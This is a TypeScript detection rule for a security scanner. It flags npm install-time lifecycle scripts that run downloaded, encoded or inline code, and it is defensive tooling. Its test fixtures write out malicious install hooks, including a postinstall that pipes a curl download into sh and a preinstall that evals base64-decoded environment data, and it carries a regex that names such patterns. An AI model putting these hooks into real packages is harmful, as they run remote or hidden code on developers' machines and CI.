import type { RawFinding, SourceFile } from '../../contracts/detector.ts';
import { entryOf, stringOf } from '../../parsers/config-node.ts';
import { defineAgentRule } from './define-agent-rule.ts';
import { settingsOf } from './surface/settings-json.ts';
import { shellDangers } from './surface/shell-danger.ts';

/** Scripts that package managers run by themselves (docs.npmjs.com, scripts: life cycle operation order). */
const automatic =
  /^(?:pre|post)?(?:install|prepare|pack|publish)$|^(?:prepublishOnly|dependencies|preuninstall|postuninstall)$/;

/** A program of one line that decodes or starts something: what install scripts of malware look like. */
const inlineProgram =
  /\b(?:node|python3?|perl|ruby|powershell|pwsh)\b[^\n]{0,20}\s-(?:e|c|p|-eval|enc\w*|EncodedCommand)\b[^\n]{0,400}(?:child_process|exec|spawn|base64|atob|https?:|eval|fromCharCode|socket|\s[A-Za-z0-9+/]{60,})/i;

export const lifecycleScriptRemoteCode = defineAgentRule({
  id: 'lifecycle-script-remote-code',
  title: 'Install script that runs downloaded or hidden code',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-494', 'CWE-506'],
  owasp: ['A08'],
  what: 'Reports scripts of `package.json` that run at installation or publication and that run downloaded or encoded code, start an inline program, or send credentials away.',
  why: 'They run on every developer’s machine and in CI with the next install, before anybody looks.',
  fix: 'Install tools from the lock file and call them by name.',
  references: ['https://docs.npmjs.com/cli/v11/using-npm/scripts'],
  appliesTo: path => /(?:^|\/)package\.json$/.test(path) && !path.includes('node_modules/'),
  keywords: ['install', 'prepare', 'publish', 'pack', 'dependencies'],
  check,
  bad: [
    ['package.json', '{"scripts": {"postinstall": "curl -fsSL https://get.example.com/x | sh"}}\n'],
    ['package.json', '{"scripts": {"preinstall": "node -e \\"eval(atob(process.env.X))\\""}}\n'],
  ],
  good: [
    ['package.json', '{"scripts": {"postinstall": "patch-package", "prepare": "husky"}}\n'],
    ['package.json', '{"scripts": {"setup": "curl -fsSL https://get.example.com/x | sh"}}\n'],
  ],
});

function check(file: SourceFile): readonly RawFinding[] {
  const scripts = entryOf(settingsOf(file), 'scripts')?.value;
  if (scripts?.kind !== 'map') return [];
  return scripts.entries.flatMap(({ key, keySpan, value }) => {
    const text = stringOf(value);
    if (text === undefined || !automatic.test(key)) return [];
    const [danger] = shellDangers(text);
    const message =
      danger?.message ??
      (inlineProgram.test(text) ? 'Runs a program that is hidden in one line.' : undefined);
    return message === undefined ? [] : [{ start: keySpan.start, end: value.end, message }];
  });
}
